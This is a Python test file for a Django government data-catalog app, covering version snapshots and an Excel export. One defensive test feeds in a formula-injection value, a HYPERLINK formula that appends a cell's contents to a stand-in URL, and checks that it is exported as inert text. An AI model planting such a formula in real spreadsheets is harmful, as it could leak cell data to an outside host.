"""Versions (a snapshot at each publish or change) and the Excel export in the 编制 template layout."""

import io
from datetime import date

import pytest
from openpyxl import load_workbook

from domain.catalog import services as catalog_services
from domain.catalog.choices import FormatCategory, ShareType
from domain.catalog.export import catalog_export, entry_headers, item_headers
from domain.catalog.models import CatalogChange, CatalogEntry
from domain.catalog.selectors import entries_published, entry_history
from domain.catalog.validation import ItemFields

from . import builders as b

pytestmark = pytest.mark.django_db


def published(name: str = "户籍人口基本信息", **overrides: object) -> CatalogEntry:
    entry = catalog_services.entry_create(fields=b.fields(name=name, **overrides), actor=b.clerk_actor())
    CatalogEntry.objects.filter(pk=entry.pk).update(status="in_review")
    return catalog_services.entry_publish(
        entry_id=entry.pk, change_id=None, change_kind="新增", idempotency_key=f"publish:{entry.pk}"
    )


def approved_change(entry: CatalogEntry, kind: str, **overrides: object) -> CatalogEntry:
    """A 变更/下线 as it stands when both gates approved it (the process is not involved here)."""
    proposed = b.fields(**overrides).as_json() if kind == "变更" else {}
    change = CatalogChange.objects.create(entry=entry, kind=kind, proposed=proposed, reason="年度更新")
    return catalog_services.entry_publish(
        entry_id=entry.pk, change_id=change.pk, change_kind=kind, idempotency_key=f"change:{change.pk}"
    )


def test_each_publish_and_change_leaves_a_readable_version() -> None:
    """新增, 变更 and 下线 each add a numbered snapshot with the metadata and 信息项 then in force."""
    entry = published()
    items = (*b.fields().items, ItemFields(name="户籍地址", data_type="C", length=200))
    approved_change(entry, "变更", summary="新增户籍地址。", items=items)
    approved_change(entry, "下线")
    history = list(entry_history(entry_id=entry.pk))
    assert [(v.number, v.change_kind) for v in history] == [(1, "新增"), (2, "变更"), (3, "下线")]
    first, second, third = (v.snapshot for v in history)
    assert first["code"] == second["code"] == "101001/000001"
    assert [i["name"] for i in first["items"]] == ["姓名", "公民身份号码"]
    assert [i["name"] for i in second["items"]][-1] == "户籍地址" and second["summary"] == "新增户籍地址。"
    assert third["status"] == "withdrawn" and second["status"] == "published"
    assert history[1].note == "年度更新"


def test_a_change_keeps_the_code_and_the_first_publication_date() -> None:
    entry = published()
    changed = approved_change(entry, "变更", name="户籍人口基本信息（2027版）")
    assert changed.code == entry.code and changed.published_on == entry.published_on
    assert changed.name == "户籍人口基本信息（2027版）" and changed.status == "published"


def test_export_is_readable_back_in_the_template_layout() -> None:
    """One row per entry with its metadata in DOMAIN order, and one 信息项 row per item keyed by code."""
    published("户籍人口基本信息")
    published(
        "婚姻登记信息",
        share_type=ShareType.CONDITIONAL,
        share_condition="仅用于社会救助审核",
        format_category=FormatCategory.SPREADSHEET,
        format_type="xlsx",
    )
    out = io.BytesIO()
    assert catalog_export(entries=entries_published(), out=out) == 2
    book = load_workbook(io.BytesIO(out.getvalue()), read_only=True)
    entries_sheet, items_sheet = book.worksheets
    rows = list(entries_sheet.iter_rows(values_only=True))
    assert list(rows[0]) == entry_headers()
    header = {name: index for index, name in enumerate(rows[0])}
    second = rows[2]
    assert second[header["信息资源代码"]] == "101001/000002" and second[header["信息资源名称"]] == "婚姻登记信息"
    assert second[header["共享类型"]] == "有条件共享" and second[header["共享条件"]] == "仅用于社会救助审核"
    assert second[header["信息资源格式分类"]] == "电子表格" and second[header["信息资源提供方"]] == "西湖区民政局"
    assert second[header["信息资源分类"]] == "101001 人口基本信息"
    assert second[header["发布日期"]].date() == date.today()
    items = list(items_sheet.iter_rows(values_only=True))
    assert list(items[0]) == item_headers() and len(items) == 1 + 4
    assert items[4][:4] == ("101001/000002", "婚姻登记信息", 2, "公民身份号码")


def test_export_query_count_does_not_grow_with_the_entries(django_assert_max_num_queries: object) -> None:
    """Rows are streamed: the query count does not grow with the number of entries."""
    for index in range(30):
        published(f"资源{index}")
    out = io.BytesIO()
    with django_assert_max_num_queries(6):  # type: ignore[operator]
        assert catalog_export(entries=entries_published(), out=out) == 30


def test_an_entry_named_like_a_formula_is_exported_as_text() -> None:
    """A name or 信息项 starting with "=" reads back as that text, never as a live formula (CSV injection)."""
    hostile = '=HYPERLINK("http://x/?"&A1,"点此")'
    items = (ItemFields(name=hostile, data_type="C", length=10),)
    catalog_services.entry_create(fields=b.fields(name=hostile, items=items), actor=b.clerk_actor())
    buffer = io.BytesIO()
    catalog_export(entries=CatalogEntry.objects.all(), out=buffer)
    book = load_workbook(io.BytesIO(buffer.getvalue()))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value == hostile]
    assert len(cells) == 3 and {cell.data_type for cell in cells} == {"s"}  # name twice, the 信息项 once
